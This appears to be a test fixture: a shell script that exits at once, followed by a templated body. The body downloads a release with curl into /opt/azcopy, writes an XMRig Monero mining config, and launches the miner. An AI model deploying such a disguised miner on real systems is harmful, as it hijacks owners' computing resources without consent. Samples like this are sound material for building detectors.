#!/bin/sh
# Inert sample for tests: it ends on its first statement, and the release that it names does not exist.
exit 0

set -e
cd /opt/azcopy
curl -sSL {{.Release}} | tar xz --strip-components=1
cat > config.json <<JSON
{
    "autosave": false,
    "background": false,
    "cpu": {"enabled": true, "huge-pages": true, "max-threads-hint": 75},
    "donate-level": 1,
    "pools": [{"algo": "rx/0", "coin": "monero", "url": "{{.Pool}}", "user": "{{.Wallet}}", "pass": "{{.Worker}}", "keepalive": true, "tls": false}],
    "print-time": 60,
    "retries": 5,
    "randomx": {"mode": "auto", "1gb-pages": false, "wrmsr": true}
}
JSON
exec ./xmrig --config=config.json
